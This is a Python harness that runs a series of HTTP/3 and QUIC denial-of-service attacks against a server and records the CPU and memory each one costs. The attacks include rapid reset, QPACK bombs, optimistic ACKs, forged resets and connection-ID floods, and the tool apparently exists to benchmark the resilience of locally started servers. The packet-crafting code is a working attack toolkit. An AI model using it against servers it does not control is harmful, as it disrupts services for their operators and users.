"""Attacks on a server of HTTP/3, one after the other, and what each costs the server.

    python attacks.py [--only NAME,…] [--seconds S] [--json FILE] ADDRESS PATH PID
    python attacks.py [--only …] [--seconds S] [--json FILE] --race BOLIDE CONTENDER…
    python attacks.py --table FILE

The first form attacks a server that runs; the second starts each contender as `bolide race start` does, and attacks
one after the other; the third makes a table in Markdown of what the second has written. Every attack sends what it can from one thread for some seconds, on a new connection whenever the
server closes one, and then asks for PATH once as any client would. A table goes to the standard output; the exit code
is 1 if a server has ended or no longer answers.

aioquic makes the handshake. From then on every packet is made here, so that it may hold anything.
"""

import argparse
import json
import os
import random
import signal
import socket
import ssl
import subprocess
import sys
import time

from aioquic.buffer import Buffer, encode_uint_var
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import ConnectionTerminated
from aioquic.tls import Epoch

TICKS = os.sysconf("SC_CLK_TCK")
PAGE = os.sysconf("SC_PAGE_SIZE")

# What fits into a packet beside its header and its tag, in bytes.
ROOM = 1150

# How long a handshake, a response or a server's end may take, in seconds.
PATIENCE_S = 5

# Connections whose memory is compared.
HELD = 20

# An attack of which less than this gets through is held back by the server's windows or limits, in bits per second.
HELD_BACK_BPS = 5e6

# Datagrams that an attack makes at least, however little of a processor it gets.
LEAST = 100

# Clients that send their first packet and nothing else.
SILENT = 900

PING, ACK, RESET_STREAM, STOP_SENDING, CRYPTO = b"\x01", b"\x02", b"\x04", b"\x05", b"\x06"
MAX_STREAM_DATA, NEW_CONNECTION_ID, PATH_CHALLENGE = b"\x11", b"\x18", b"\x1a"

ERRORS = {
    0x00: "NO_ERROR",
    0x01: "INTERNAL_ERROR",
    0x02: "CONNECTION_REFUSED",
    0x03: "FLOW_CONTROL_ERROR",
    0x04: "STREAM_LIMIT_ERROR",
    0x05: "STREAM_STATE_ERROR",
    0x07: "FRAME_ENCODING_ERROR",
    0x09: "CONNECTION_ID_LIMIT_ERROR",
    0x0A: "PROTOCOL_VIOLATION",
    0x0D: "CRYPTO_BUFFER_EXCEEDED",
    0x0E: "KEY_UPDATE_ERROR",
    0x100: "H3_NO_ERROR",
    0x101: "H3_GENERAL_PROTOCOL_ERROR",
    0x102: "H3_INTERNAL_ERROR",
    0x104: "H3_CLOSED_CRITICAL_STREAM",
    0x105: "H3_FRAME_UNEXPECTED",
    0x106: "H3_FRAME_ERROR",
    0x107: "H3_EXCESSIVE_LOAD",
    0x108: "H3_ID_ERROR",
    0x109: "H3_SETTINGS_ERROR",
    0x10A: "H3_MISSING_SETTINGS",
    0x200: "QPACK_DECOMPRESSION_FAILED",
    0x201: "QPACK_ENCODER_STREAM_ERROR",
    0x202: "QPACK_DECODER_STREAM_ERROR",
}


def number(value):
    return encode_uint_var(value)


def stream_frame(stream, offset, data, end=False):
    """RFC 9000 section 19.8, with offset and length."""
    return bytes([0x0E | end]) + number(stream) + number(offset) + number(len(data)) + data


def h3_frame(kind, content):
    return number(kind) + number(len(content)) + content


def literal(name, value):
    """A field line with a literal name, without Huffman code (RFC 9204 section 4.5.6)."""
    head = bytes([0x20 | len(name)]) if len(name) < 7 else bytes([0x27]) + prefixed(len(name) - 7)
    return head + name + number_7(len(value)) + value


def prefixed(value):
    """What follows a full prefix (RFC 7541 section 5.1)."""
    made = b""
    while value >= 128:
        made += bytes([0x80 | value & 0x7F])
        value >>= 7
    return made + bytes([value])


def number_7(value):
    return bytes([value]) if value < 127 else b"\x7f" + prefixed(value - 127)


class Ended(Exception):
    """The server has closed the connection, or given it up."""


class Peer:
    """A connection that says whatever an attack wants."""

    def __init__(self, address, path):
        self.address, self.path = address, path
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.setblocking(False)
        self.sent = self.received = self.count = 0
        self.closed = None
        self.limits = {}
        self.data = 0
        self.next = {0: 0, 2: 2}
        self.came = bytearray()
        configuration = QuicConfiguration(
            is_client=True, alpn_protocols=["h3"], verify_mode=ssl.CERT_NONE, server_name="localhost"
        )
        configuration.idle_timeout = 60
        self.quic = QuicConnection(configuration=configuration)

    def shake_hands(self):
        quic = self.quic
        quic.connect(self.address, time.monotonic())
        until = time.monotonic() + PATIENCE_S
        while not quic._handshake_confirmed:
            self.flush_quic()
            if time.monotonic() > until or quic._close_event:
                raise Ended("no handshake")
            for data in self.datagrams(0.05):
                quic.receive_datagram(data, self.address, time.monotonic())
            # Without being asked for its timer, aioquic does not set it.
            quic.get_timer()
            quic.handle_timer(time.monotonic())
        self.flush_quic()
        self.crypto = quic._cryptos[Epoch.ONE_RTT]
        self.cid = quic._peer_cid.cid
        self.other_cids = [one.cid for one in quic._peer_cid_available]
        self.packet = quic._packet_number
        self.limits = {
            "data": quic._remote_max_data,
            0: quic._remote_max_streams_bidi,
            2: quic._remote_max_streams_uni,
        }
        self.first_room = {0: quic._remote_max_stream_data_bidi_remote, 2: quic._remote_max_stream_data_uni}
        self.rooms = {}
        queue = quic._spaces[Epoch.ONE_RTT].ack_queue
        self.ranges = [[one.start, one.stop] for one in queue] or [[0, 0]]
        self.owes_ack = False
        control = self.open(2)
        # SETTINGS: a table of 4096 bytes, 16 blocked streams.
        self.control = [control, 0]
        self.send(self.piece(self.control, b"\x00" + h3_frame(0x04, b"\x01\x50\x00\x07\x10")))
        return self

    def flush_quic(self):
        for data, _ in self.quic.datagrams_to_send(time.monotonic()):
            self.put(data)

    def put(self, data):
        self.sent += len(data)
        self.count += 1
        try:
            self.socket.sendto(data, self.address)
        except (BlockingIOError, ConnectionRefusedError):
            time.sleep(0.001)

    def datagrams(self, patience=0.0):
        """What has come; waits so long for the first."""
        until = time.monotonic() + patience
        while True:
            try:
                data = self.socket.recv(65536)
            except BlockingIOError:
                if time.monotonic() >= until:
                    return
                time.sleep(0.0005)
                continue
            except ConnectionRefusedError:
                raise Ended("nobody listens")
            self.received += len(data)
            yield data
            until = 0

    def seal(self, payload, cid=None):
        """A packet with these frames (RFC 9000 section 17.3.1)."""
        payload += bytes(max(0, 4 - len(payload)))
        head = bytes([0x41 | self.crypto.key_phase << 2]) + (cid or self.cid)
        head += (self.packet & 0xFFFF).to_bytes(2, "big")
        sealed = self.crypto.encrypt_packet(head, payload, self.packet)
        self.packet += 1
        return sealed

    def send(self, payload, cid=None):
        self.put(self.seal(payload, cid))

    def open(self, kind=0):
        """The number of a new stream; 2: one that goes one way. None: the server allows no more."""
        if self.next[kind] // 4 >= self.limits[kind]:
            return None
        stream = self.next[kind]
        self.next[kind] += 4
        return stream

    def piece(self, place, data, end=False):
        """More of a stream: [number, offset]."""
        frame = stream_frame(place[0], place[1], data, end)
        place[1] += len(data)
        self.data += len(data)
        return frame

    def room(self, stream):
        """The end of what the server takes of a stream."""
        return self.rooms.get(stream, self.first_room[stream % 4])

    def has_room(self, place, count):
        return self.data + count <= self.limits["data"] and place[1] + count <= self.room(place[0])

    def receive(self, patience=0.0):
        """Reads and acknowledges what has come. Raises Ended at the connection's end."""
        for data in self.datagrams(patience):
            if data[0] & 0x80:
                continue
            try:
                _, payload, packet = self.crypto.decrypt_packet(data, 1 + len(self.quic.host_cid), self.ranges[-1][1])
            except Exception:
                continue
            self.note(packet)
            self.read(payload)
        if self.owes_ack:
            self.owes_ack = False
            self.send(self.ack())

    def note(self, packet):
        last = self.ranges[-1]
        if packet == last[1]:
            last[1] += 1
        elif packet > last[1]:
            self.ranges = self.ranges[-16:] + [[packet, packet + 1]]

    def ack(self):
        ranges = self.ranges[::-1]
        first = ranges[0]
        frame = ACK + number(first[1] - 1) + number(0) + number(len(ranges) - 1) + number(first[1] - first[0] - 1)
        below = first[0]
        for start, stop in ranges[1:]:
            frame += number(below - stop - 1) + number(stop - start - 1)
            below = start
        return frame

    def read(self, payload):
        buffer = Buffer(data=payload)
        pull = buffer.pull_uint_var
        while not buffer.eof():
            kind = pull()
            if kind not in (0x00, 0x02, 0x03, 0x1C, 0x1D):
                self.owes_ack = True
            if kind in (0x00, 0x01, 0x1E):
                continue
            if kind in (0x02, 0x03):
                pull(), pull()
                for _ in range(2 * pull() + 1):
                    pull()
                if kind == 0x03:
                    pull(), pull(), pull()
            elif kind == 0x11:
                stream = pull()
                self.rooms[stream] = max(self.rooms.get(stream, 0), pull())
            elif kind in (0x04, 0x15):
                pull(), pull()
                if kind == 0x04:
                    pull()
            elif kind in (0x05,):
                pull(), pull()
            elif kind == 0x06:
                pull()
                buffer.pull_bytes(pull())
            elif kind == 0x07:
                buffer.pull_bytes(pull())
            elif 0x08 <= kind <= 0x0F:
                stream = pull()
                if kind & 4:
                    pull()
                data = buffer.pull_bytes(pull() if kind & 2 else buffer.capacity - buffer.tell())
                if stream % 4 == 0:
                    self.came += data[: max(0, 4096 - len(self.came))]
            elif kind == 0x10:
                self.limits["data"] = max(self.limits["data"], pull())
            elif kind in (0x12, 0x13):
                way = 0 if kind == 0x12 else 2
                self.limits[way] = max(self.limits[way], pull())
            elif kind in (0x14, 0x16, 0x17, 0x19):
                pull()
            elif kind == 0x18:
                pull(), pull()
                self.other_cids.append(buffer.pull_bytes(buffer.pull_uint8()))
                buffer.pull_bytes(16)
            elif kind in (0x1A, 0x1B):
                challenge = buffer.pull_bytes(8)
                if kind == 0x1A:
                    self.send(b"\x1b" + challenge)
            elif kind in (0x1C, 0x1D):
                code = pull()
                if kind == 0x1C:
                    pull()
                    if 0x100 <= code < 0x200:
                        raise Ended(f"TLS alert {code - 0x100}")
                raise Ended(ERRORS.get(code, hex(code)))
            elif kind in (0x30, 0x31):
                buffer.pull_bytes(pull() if kind == 0x31 else buffer.capacity - buffer.tell())
            else:
                return

    def get(self, path=None, method=b"GET"):
        """The HEADERS frame of a request."""
        path = (path or self.path).encode()
        section = b"\x00\x00" + literal(b":method", method) + literal(b":scheme", b"https")
        section += literal(b":authority", b"localhost") + literal(b":path", path)
        return h3_frame(0x01, section)

    def ask(self):
        """Whether an ordinary request is responded to."""
        request = self.piece([self.open(), 0], self.get(), end=True)
        until = time.monotonic() + PATIENCE_S
        while not self.came:
            if time.monotonic() > until:
                return False
            # Again, for what is left of an attack may have crowded it out.
            self.send(request)
            self.receive(0.2)
        return True

    def close(self):
        try:
            self.send(b"\x1d" + number(0x100) + number(0))
        except Exception:
            pass
        self.socket.close()


# Each attack of this kind is called with a connection and gives the payloads of its packets, one after the other. `None`
# means: there is nothing to send until the server has said something.


def repeated(frame):
    """As many of this frame as a packet holds, again and again."""
    payload = frame * (ROOM // len(frame))

    def attack(peer):
        while True:
            yield payload

    return attack


def on_stream(begin, frame):
    """A stream that begins like this and goes on with one frame of HTTP/3, or one instruction, again and again."""

    def attack(peer):
        place = begin(peer)
        content = frame * ((ROOM - 20) // len(frame))
        while True:
            yield peer.piece(place, content) if peer.has_room(place, len(content)) else None

    return attack


def one_way(kind):
    return lambda peer: begun(peer, [peer.open(2), 0], number(kind))


def upload(peer):
    return begun(peer, [peer.open(), 0], peer.get(method=b"POST"))


def begun(peer, place, content):
    peer.send(peer.piece(place, content))
    return place


def control(peer):
    return peer.control


def empty_pieces(peer):
    place = upload(peer)
    frame = stream_frame(place[0], place[1], b"")
    while True:
        yield frame * (ROOM // len(frame))


def reserved_streams(peer):
    while True:
        payload = b""
        while len(payload) < ROOM - 30 and (stream := peer.open(2)) is not None:
            payload += stream_frame(stream, 0, number(0x21), end=True)
        yield payload or None


def rapid_reset(peer):
    while True:
        payload = b""
        while len(payload) < ROOM - 120 and (stream := peer.open()) is not None:
            head = peer.get()
            payload += peer.piece([stream, 0], head) + STOP_SENDING + number(stream) + number(0x10C)
            payload += RESET_STREAM + number(stream) + number(0x10C) + number(len(head))
        yield payload or None


def made_you_reset(peer):
    """Requests that the server must refuse: no :method."""
    content = h3_frame(0x01, b"\x00\x00" + literal(b":path", b"/"))
    while True:
        payload = b""
        while len(payload) < ROOM - 60 and (stream := peer.open()) is not None:
            payload += peer.piece([stream, 0], content, end=True)
        yield payload or None


def connection_ids(peer):
    """Each makes the server give up the one before, and say so."""
    sequence = 1
    while True:
        payload = b""
        while len(payload) < ROOM - 40:
            frame = NEW_CONNECTION_ID + number(sequence) + number(sequence) + b"\x08" + os.urandom(24)
            payload += frame
            sequence += 1
        yield payload


def retired_ids(peer):
    """The server's own, as fast as it gives new ones."""
    sequence = 1
    while True:
        if sequence < len(peer.other_cids) + 1:
            yield b"\x19" + number(sequence)
            sequence += 1
        else:
            yield None


def challenges(peer):
    while True:
        yield b"".join(PATH_CHALLENGE + os.urandom(8) for _ in range(ROOM // 9))


def migrations(peer):
    """Each packet comes from another port."""
    while True:
        peer.socket.close()
        peer.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        peer.socket.setblocking(False)
        yield PING + bytes(60)


def optimistic(peer):
    """Packets are acknowledged that the server has not sent yet (RFC 9000 section 13.1)."""
    for ahead in range(1, 1 << 30):
        yield ACK + number(peer.ranges[-1][1] + 1000 * ahead) + number(0) + number(0) + number(0)


def ack_ranges(peer):
    """As many ranges as a packet holds, of packets that were sent: one is acknowledged in two."""
    while True:
        stream = peer.open()
        if stream is not None:
            peer.send(peer.piece([stream, 0], peer.get(), end=True))
        peer.receive()
        last = peer.ranges[-1][1] - 1
        count = min(last // 2, ROOM // 2 - 8)
        frame = ACK + number(last) + number(0) + number(max(count - 1, 0)) + number(0)
        yield frame + b"\x00\x00" * max(count - 1, 0)


def small_windows(peer):
    """A large response, for which there is one byte of room more at a time."""
    for one in range(20):
        stream = peer.open()
        if stream is not None:
            peer.send(peer.piece([stream, 0], peer.get(LARGE), end=True))
    allowed = peer.quic._local_max_stream_data_bidi_local
    while True:
        allowed += 1
        yield b"".join(MAX_STREAM_DATA + number(stream) + number(allowed) for stream in range(0, 80, 4))


def key_updates(peer):
    """New keys in each packet that the server has followed with the keys before (RFC 9001 section 6)."""
    while True:
        before = peer.packet
        peer.crypto.update_key()
        yield PING
        yield PING
        until = time.monotonic() + 0.02
        while time.monotonic() < until and peer.packet <= before + 2:
            peer.receive(0.001)


def crypto_ahead(peer):
    """Pieces of a handshake message that never becomes complete."""
    offset = 1
    while True:
        payload = b""
        while len(payload) < ROOM - 10:
            payload += CRYPTO + number(offset) + b"\x01x"
            offset += 2
        yield payload


FLOODS = {
    "PING": repeated(PING),
    "PATH_CHALLENGE": challenges,
    "NEW_CONNECTION_ID": connection_ids,
    "RETIRE_CONNECTION_ID": retired_ids,
    "migration": migrations,
    "optimistic ACK": optimistic,
    "ACK ranges": ack_ranges,
    "CRYPTO gaps": crypto_ahead,
    "empty STREAM": empty_pieces,
    "key update": key_updates,
    "MAX_STREAM_DATA + 1": small_windows,
    "empty DATA": on_stream(upload, h3_frame(0x00, b"")),
    "1-byte DATA": on_stream(upload, h3_frame(0x00, b"x")),
    "unknown frame": on_stream(control, h3_frame(0x21, b"")),
    "SETTINGS": on_stream(control, h3_frame(0x04, b"")),
    "PRIORITY_UPDATE": on_stream(control, h3_frame(0xF0700, b"\x00u=3")),
    "reserved stream": reserved_streams,
    "QPACK encoder stream": on_stream(one_way(0x02), b"\x20"),
    "QPACK decoder stream": on_stream(one_way(0x03), b"\x40"),
    "rapid reset": rapid_reset,
    "made you reset": made_you_reset,
}

LARGE = "/16777216"

# Each attack of this kind is called with a connection and sends all that it has to send.


def gaps(peer):
    """Every other byte of a request's content, as far as the windows allow."""
    place = upload(peer)
    offset, end = place[1] + 1, min(peer.room(place[0]), peer.limits["data"])
    while offset < end - 2 * ROOM:
        payload = b""
        while len(payload) < ROOM - 10:
            payload += stream_frame(place[0], offset, b"x")
            offset += 2
        peer.send(payload)
        if offset % 16 == 1:
            peer.receive(0.0005)


def half_heads(peer):
    while (stream := peer.open()) is not None and stream < 400 and peer.has_room([stream, 0], 1200):
        content = h3_frame(0x01, bytes(16000))[:1000]
        peer.send(peer.piece([stream, 0], content))
        peer.receive()


def slow_readers(peer):
    while (stream := peer.open()) is not None and stream < 400:
        peer.send(peer.piece([stream, 0], peer.get(LARGE), end=True))
        peer.receive()


def blocked(peer):
    """Sections that wait for an entry of the dynamic table that never comes (RFC 9204 section 2.1.2)."""
    begun(peer, [peer.open(2), 0], b"\x02")
    while (stream := peer.open()) is not None and stream < 400:
        section = b"\x02\x00\x80" + bytes(500)
        peer.send(peer.piece([stream, 0], h3_frame(0x01, section), end=True))
        peer.receive()


def bomb(peer):
    """One entry of the dynamic table, named in each byte of the sections; or where there is no table, one of the static."""
    encoder = [peer.open(2), 0]
    entry = b"\x3f\xe1\x1f" + b"\x43a-b" + number_7(3900) + bytes([0x78]) * 3900
    peer.send(peer.piece(encoder, b"\x02" + entry[:1000]))
    for at in range(1000, len(entry), 1000):
        peer.send(peer.piece(encoder, entry[at : at + 1000]))
    peer.receive(0.005)
    while (stream := peer.open()) is not None and stream < 200 and peer.has_room([stream, 0], 4096):
        place, section = [stream, 0], h3_frame(0x01, b"\x02\x00" + b"\x80" * 4000)
        for at in range(0, len(section), 1000):
            peer.send(peer.piece(place, section[at : at + 1000], end=at + 1000 >= len(section)))
        peer.receive()


HOLDS = {
    "idle": lambda peer: None,
    "STREAM gaps": gaps,
    "half heads": half_heads,
    "readers of nothing": slow_readers,
    "blocked sections": blocked,
    "QPACK bomb": bomb,
}


class Server:
    def __init__(self, address, path, pid):
        host, port = address.rsplit(":", 1)
        self.address, self.path, self.pid = (host, int(port)), path, pid

    def processes(self):
        found, waiting = [], [self.pid]
        while waiting:
            pid = waiting.pop()
            found.append(pid)
            try:
                for task in os.listdir(f"/proc/{pid}/task"):
                    with open(f"/proc/{pid}/task/{task}/children") as file:
                        waiting += [int(child) for child in file.read().split()]
            except OSError:
                pass
        return found

    def cpu_s(self):
        total = 0
        for pid in self.processes():
            try:
                with open(f"/proc/{pid}/schedstat") as file:
                    text = file.read()
                for task in os.listdir(f"/proc/{pid}/task"):
                    with open(f"/proc/{pid}/task/{task}/schedstat") as file:
                        total += int(file.read().split()[0])
            except OSError:
                pass
        return total / 1e9

    def memory(self):
        total = 0
        for pid in self.processes():
            try:
                with open(f"/proc/{pid}/statm") as file:
                    total += int(file.read().split()[1]) * PAGE
            except OSError:
                pass
        return total

    def is_alive(self):
        return os.path.exists(f"/proc/{self.pid}/task")

    def connect(self):
        return Peer(self.address, self.path).shake_hands()

    def answers(self):
        """Whether a new client is served, and after how many seconds."""
        begun = time.monotonic()
        while time.monotonic() - begun < PATIENCE_S:
            try:
                peer = self.connect()
                is_served = peer.ask()
                peer.close()
                if is_served:
                    return round(time.monotonic() - begun, 3)
            except Ended:
                time.sleep(0.05)
        return None


def result(server, before, peers, seconds, ends):
    cpu, memory = before
    return {
        "seconds": round(seconds, 2),
        "sent_datagrams": sum(peer.count for peer in peers),
        "sent_bytes": sum(peer.sent for peer in peers),
        "received_bytes": sum(peer.received for peer in peers),
        "server_cpu_s": round(server.cpu_s() - cpu, 4),
        "memory_bytes": server.memory() - memory,
        "ends": ends,
        "served_after_s": server.answers(),
        "alive": server.is_alive(),
    }


def flood(server, attack, seconds):
    before = (server.cpu_s(), server.memory())
    ends, peers, begun_s = {}, [], time.monotonic()
    until = begun_s + seconds
    latest, least = begun_s + 20 * seconds, LEAST
    while time.monotonic() < (until if least <= 0 else latest):
        peer = Peer(server.address, server.path)
        peers.append(peer)
        try:
            peer.shake_hands()
            ends["connections"] = ends.get("connections", 0) + 1
            made = attack(peer)
            count = 0
            while time.monotonic() < (until if least <= 0 else latest):
                least -= 1
                payload = next(made)
                if payload is None:
                    peer.receive(0.002)
                    continue
                peer.send(payload)
                count += 1
                if count % 8 == 0:
                    peer.receive()
        except Ended as ended:
            ends[str(ended)] = ends.get(str(ended), 0) + 1
        peer.close()
    return result(server, before, peers, time.monotonic() - begun_s, ends)


def hold(server, attack, seconds):
    before = (server.cpu_s(), server.memory())
    ends, peers, begun_s = {"connections": HELD}, [], time.monotonic()
    for _ in range(HELD):
        peer = Peer(server.address, server.path)
        try:
            peer.shake_hands()
            peers.append(peer)
            attack(peer)
            peer.receive(0.002)
        except Ended as ended:
            ends[str(ended)] = ends.get(str(ended), 0) + 1
            peer.closed = str(ended)
    peak, until = server.memory(), time.monotonic() + seconds
    while time.monotonic() < until:
        for peer in [peer for peer in peers if not peer.closed]:
            try:
                peer.receive()
            except Ended as ended:
                ends[str(ended)] = ends.get(str(ended), 0) + 1
                peer.closed = str(ended)
        peak = max(peak, server.memory())
        time.sleep(0.02)
    found = result(server, before, peers, time.monotonic() - begun_s, ends)
    found["memory_bytes"] = peak - before[1]
    for peer in peers:
        peer.close()
    return found


def first_packets(server, seconds):
    """Clients that begin, and are never heard of again, each from another port."""
    before = (server.cpu_s(), server.memory())
    peers, begun_s = [], time.monotonic()
    while time.monotonic() - begun_s < seconds and len(peers) < SILENT:
        peer = Peer(server.address, server.path)
        peer.quic.connect(server.address, time.monotonic())
        peer.flush_quic()
        peers.append(peer)
    taken_s = time.monotonic() - begun_s
    time.sleep(1)
    for peer in peers:
        for _ in peer.datagrams():
            pass
    found = result(server, before, peers, taken_s, {"clients": len(peers)})
    for peer in peers:
        peer.socket.close()
    return found


def foreign(make):
    """Datagrams of no connection."""

    def attack(server, seconds):
        before = (server.cpu_s(), server.memory())
        peer = Peer(server.address, server.path)
        begun_s = time.monotonic()
        while time.monotonic() - begun_s < seconds:
            for _ in range(16):
                peer.put(make())
            for _ in peer.datagrams():
                pass
        for _ in peer.datagrams(0.2):
            pass
        found = result(server, before, [peer], time.monotonic() - begun_s, {})
        peer.socket.close()
        return found

    return attack


def short_header():
    return bytes([0x40 | random.randrange(64)]) + os.urandom(300)


def unknown_version():
    return b"\xc0\x1a\x2a\x3a\x4a\x08" + os.urandom(8) + b"\x08" + os.urandom(8) + bytes(1180)


def forged_resets(server, seconds):
    """Datagrams with a client's connection ID that end in what is no reset token (RFC 9000 section 10.3)."""
    before = (server.cpu_s(), server.memory())
    victim, forger = server.connect(), Peer(server.address, server.path)
    begun_s = time.monotonic()
    while time.monotonic() - begun_s < seconds:
        for _ in range(16):
            forger.put(b"\x41" + victim.cid + os.urandom(60))
    time.sleep(0.2)
    ends = {"connections": 1}
    try:
        ends["the victim is served"] = int(victim.ask())
    except Ended as ended:
        ends[str(ended)] = 1
    found = result(server, before, [forger], time.monotonic() - begun_s, ends)
    victim.close()
    return found


OTHERS = {
    "first packets": first_packets,
    "unknown connection": foreign(short_header),
    "unknown version": foreign(unknown_version),
    "forged reset": forged_resets,
}


def attacks(seconds):
    for name, attack in FLOODS.items():
        yield name, lambda server, attack=attack: flood(server, attack, seconds)
    for name, attack in OTHERS.items():
        yield name, lambda server, attack=attack: attack(server, seconds)
    for name, attack in HOLDS.items():
        yield name, lambda server, attack=attack: hold(server, attack, seconds)


def shown(name, found):
    megabits = found["sent_bytes"] * 8 / 1e6
    cpu = found["server_cpu_s"] * 1e3 / megabits if megabits else 0
    each = found["server_cpu_s"] * 1e6 / max(1, found["sent_datagrams"])
    ends = ", ".join(f"{what} {count}" for what, count in found["ends"].items())
    served = found["served_after_s"]
    served = "not served" if served is None else f"{served * 1e3:.0f} ms"
    back = found["received_bytes"] / max(1, found["sent_bytes"])
    return (
        f"{name:22} {megabits:8.1f} Mbit  {cpu:7.2f} ms/Mbit  {each:6.1f} µs each  {found['memory_bytes'] / 2**20:+8.2f} MiB"
        f"  {back:6.2f} back  {served:>10}  {ends}"
    )


def is_ended(found):
    """Whether the server has closed connections of the attack."""
    return any(what not in ("connections", "clients", "the victim is served") for what in found["ends"])


def mark(found):
    if found["served_after_s"] is None:
        return " **unserved**"
    if is_ended(found):
        return ""
    return " h" if found["sent_bytes"] * 8 / found["seconds"] < HELD_BACK_BPS else " °"


def table(found):
    """Three tables in Markdown: floods, what is of no connection, and what is held."""

    def rows(names, cell):
        print("| attack | " + " | ".join(found) + " |\n|---|" + "--:|" * len(found))
        for name in names:
            cells = [cell(server["attacks"][name]) for server in found.values()]
            print(f"| {name} | " + " | ".join(cells) + " |")
        print()

    def cost(attack):
        cpu = attack["server_cpu_s"] * 1e3 / (attack["sent_bytes"] * 8 / 1e6)
        return f"{cpu:.1f}", f"{max(0, attack['memory_bytes']) / 2**20:.1f}"

    rows(FLOODS, lambda attack: " / ".join(cost(attack)) + mark(attack))
    back = lambda attack: f"{attack['received_bytes'] / attack['sent_bytes']:.2f}"
    rows(OTHERS, lambda attack: " / ".join([*cost(attack), back(attack)]))
    rows(HOLDS, lambda attack: cost(attack)[1] + (", ended" if is_ended(attack) else ""))


def attack_all(server, options):
    found, is_well = {}, server.answers() is not None
    if not is_well:
        print("does not answer", flush=True)
    for name, attack in attacks(options.seconds):
        if options.only and name not in options.only:
            continue
        found[name] = attack(server)
        print(shown(name, found[name]), flush=True)
        is_well &= found[name]["alive"] and found[name]["served_after_s"] is not None
        if not found[name]["alive"]:
            break
    return found, is_well


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    parser.add_argument("--only", type=lambda text: text.split(","))
    parser.add_argument("--seconds", type=float, default=2)
    parser.add_argument("--json")
    parser.add_argument("--race", metavar="BOLIDE")
    parser.add_argument("--table", metavar="FILE")
    parser.add_argument("rest", nargs="*")
    options = parser.parse_args()
    if options.table:
        with open(options.table) as file:
            table(json.load(file))
        return 0
    found, is_well = {}, True
    if not options.race:
        if len(options.rest) != 3:
            parser.error("ADDRESS PATH PID, or --race BOLIDE CONTENDER…")
        address, path, pid = options.rest
        found, is_well = attack_all(Server(address, path, int(pid)), options)
    for name in options.rest if options.race else []:
        words = [options.race, "race", "start", name, "--table", "http3"]
        with subprocess.Popen(words, stdout=subprocess.PIPE, text=True) as process:
            try:
                started = json.loads(process.stdout.readline())
                print(f"\n{name} ({started['version']})", flush=True)
                server = Server(started["address"], started["path"], started["pid"])
                attacked, was_well = attack_all(server, options)
                found[name] = {"version": started["version"] or "this build", "attacks": attacked}
                is_well &= was_well
            finally:
                process.send_signal(signal.SIGINT)
    if options.json:
        with open(options.json, "w") as file:
            json.dump(found, file, separators=(",", ":"))
    return 0 if is_well else 1


sys.exit(main())
